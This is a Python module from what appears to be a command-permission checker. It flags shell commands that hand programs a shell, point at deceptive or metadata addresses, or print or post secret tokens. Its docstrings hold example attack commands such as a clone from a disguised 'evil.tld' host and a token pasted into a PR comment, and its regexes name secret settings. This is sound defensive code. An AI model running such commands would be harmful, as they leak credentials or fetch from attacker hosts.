"""Words that count whatever a program does with them: a shell, an address, the name of a secret."""

import re
from collections.abc import Iterable, Iterator

from perpetualcc.domain.tools import Risk
from perpetualcc.permissions.blocked import is_shell, names_shell
from perpetualcc.permissions.commands.call import Call, Findings
from perpetualcc.permissions.commands.findings import PASSES_ON, prints_secret, told_to_others
from perpetualcc.permissions.commands.knowledge import CommandRule
from perpetualcc.permissions.commands.subscripts import judge_subscripts
from perpetualcc.permissions.effects import EffectKind, Finding
from perpetualcc.permissions.shell.binding import DECLARATIONS
from perpetualcc.permissions.shell.script import UNKNOWN, Assignment, SimpleCommand, Word
from perpetualcc.permissions.shell.variables import SECRET_VARIABLE, names_any
from perpetualcc.permissions.urls import judge_url

_INDIRECT = re.compile(r"\$\{!(\w+)\}")
_ASKS_SETTINGS = re.compile(r"\b(?:config|configure|get|settings?|output|defaults read)\b")
_ADDRESS = re.compile(r"(?P<scheme>(?:https?|ftp)://)(?:[\w-]+@)?(?P<rest>\S+)", re.IGNORECASE)
"""An address. With `user@`, and no more, some hosts of code are asked; it hides no host."""
_SECRET_SETTING = re.compile(
    r"(?:\b|_)(?:auth(?:token|ident)?|\w*token|passw(?:or)?d|secret\w*|api_?key|private_?key"
    r"|extraheader|(?:http-basic|gitlab-token|github-oauth|pypi-token)[\w.-]*)(?:=.*)?$",
    re.IGNORECASE,
)

_PRINTS_NOTHING = frozenset({"test", "[", "[[", ":", "true", "false"}) | DECLARATIONS


def given_shells(call: Call, rule: CommandRule) -> Findings:
    """`nano -s /bin/sh`: whatever takes a shell as a word is likely to run it."""
    given = [(g.value.text, g.rule.risk) for g in call.arguments.given if g.value]
    is_free = rule.has_free_operands and not rule.stops
    words = call.arguments.operands if is_free and not rule.wraps else []
    if not (
        any(is_shell(word.text) for word in words)
        or any(is_shell(text) and is_free for text, _ in given)
        or any(risk is not None and names_shell(text) for text, risk in given)
    ):
        return []
    why = "A program that can run others is given a shell"
    return [call.finding(Risk.HIGH, "given-shell", why, EffectKind.EXECUTE)]


def given_addresses(call: Call, rule: CommandRule) -> Findings:
    """`git clone https://github.com@evil.tld/x`, `pip -i http://169.254.169.254`."""
    if EffectKind.NETWORK not in rule.effects:
        return []
    findings: Findings = []
    for word in call.command.words[1:]:
        text = word.text.partition("=")[2] if word.text[:1] == "-" else word.text
        if "://" in text and (match := _ADDRESS.fullmatch(text)):
            findings.append(judge_url(match["scheme"] + match["rest"], call.part))
    return [found for found in findings if found.risk is Risk.HIGH]


def secret_settings(call: Call) -> Findings:
    """`npm config get //host/:_authToken`, `git config http.extraheader`."""
    if not _ASKS_SETTINGS.search(call.arguments.path):
        return []
    named = [word.text for word in call.arguments.operands if _SECRET_SETTING.search(word.text)]
    why = f"Shows the setting {named[0]}, which holds a secret" if named else ""
    return [call.finding(Risk.HIGH, "shows-secret", why, EffectKind.READ)] if named else []


def _is_of_a_secret(call: Call) -> bool:
    """`v=API_KEY; echo ${!v}`: the variable that `v` names, which may be any."""
    for name in _INDIRECT.findall(call.command.source):
        named = [one.value.text for one in call.judge.assigned if one.name == name]
        if not secrets_of(call.judge.assigned).isdisjoint(named):
            return True
        if any(UNKNOWN in one or SECRET_VARIABLE.match(f"${one}") for one in named or [UNKNOWN]):
            return True
    return False


def secrets_of(assigned: Iterable[Assignment]) -> set[str]:
    """`A=$GITHUB_TOKEN; B="x-$A"`: variables of the line with a secret in them."""
    return {one.name for one in assigned if one.is_secret}


def tells_secret(command: SimpleCommand, assigned: Iterable[Assignment]) -> bool:
    """Whether one of its words is a variable that is named like a secret, or has one."""
    return any(word.is_secret for word in command.words) or names_any(
        command.source, secrets_of(assigned)
    )


def fed_secret(command: SimpleCommand, assigned: Iterable[Assignment]) -> Findings:
    """`cat <<< $GITHUB_TOKEN`, `jq -n --arg a "$TOKEN" …`: what prints what it reads or is told."""
    name = command.words[0].text
    is_shown = (command.is_fed_secret and name in _PRINTS_INPUT) or (
        name in _PRINTS_WORDS and tells_secret(command, assigned)
    )
    why = "Prints a variable that is named like a secret"
    return [prints_secret(command, why)] if is_shown else []


def said_secret(command: SimpleCommand, found: Findings, fed: Findings) -> Findings:
    """`gh pr comment -b "$TOKEN"`, `git commit -F - <<< $TOKEN`: others will read it."""
    rules = {finding.rule for finding in found}
    is_read = not _READ_BY_OTHERS.isdisjoint(rules)
    if not is_read and _NOT_KNOWN.isdisjoint(rules) and not any(map(_reaches_out, found)):
        return []
    prints = any(finding.rule in _SHOWS for finding in fed)
    said = [word for name, word in _told(command) if _SAYS.search(name)]
    short = _SAYS_AT_HOST if "code-host-writes" in rules else _SAYS_SHORT
    said += [word for name, word in _told(command) if is_read and short.search(name)]
    is_fed = is_read and (command.is_fed_secret or (prints and bool(command.upstream)))
    if not is_fed and not any(word.is_secret or (word.code and prints) for word in said):
        return []
    return [told_to_others(command)]


def _reaches_out(finding: Finding) -> bool:
    return any(effect.kind is EffectKind.NETWORK for effect in finding.effects)


def _told(command: SimpleCommand) -> Iterator[tuple[str, Word]]:
    """Each option with what may be its value: `--body=x`, `-b x`."""
    for word, after in zip(command.words[1:], (*command.words[2:], Word("")), strict=False):
        name, equals, _ = word.text.partition("=")
        if word.text[:1] == "-":
            yield name, word if equals or after.text[:1] == "-" else after


_SAYS = re.compile(
    r"--?\w*(?:body|caption|comment|content|description|message|msg|notes?|subject|summary|text|title)$"
)
_SAYS_SHORT = re.compile(r"^-[a-z]*[mF]$")
_SAYS_AT_HOST = re.compile(r"^-[bdmntF]$")
_READ_BY_OTHERS = frozenset({"code-host-writes", "git-names", "package-version", "vcs"})
_NOT_KNOWN = frozenset({"unknown-command", "unknown-subcommand"})
_SHOWS = frozenset({"print-environment", "prints-secret", "shows-secret", "cloud-secrets"})
_PRINTS_WORDS = frozenset({"jq", "awk", "gawk", "mawk", "sed", "expr", "seq", "basename"})
_PRINTS_INPUT = frozenset(
    {*PASSES_ON, *_PRINTS_WORDS, "bat", "batcat", "column", "cut", "egrep", "expand", "fgrep",
     "fmt", "fold", "grep", "head", "hexdump", "iconv", "less", "more", "nl", "paste", "perl",
     "rev", "rg", "sort", "strings", "tac", "tail", "uniq", "xargs", "yq"}
)  # fmt: skip
"""Of what they read at least a part."""


def printed_secrets(call: Call) -> Findings:
    """Words that are only printed or kept; but some of them run, and some are secrets."""
    findings = judge_subscripts(call)
    if call.arguments.path in _PRINTS_NOTHING:
        return findings
    if tells_secret(call.command, call.judge.assigned) or _is_of_a_secret(call):
        why = "Prints a variable that is named like a secret"
        findings.append(call.finding(Risk.MEDIUM, "prints-secret", why))
    return findings
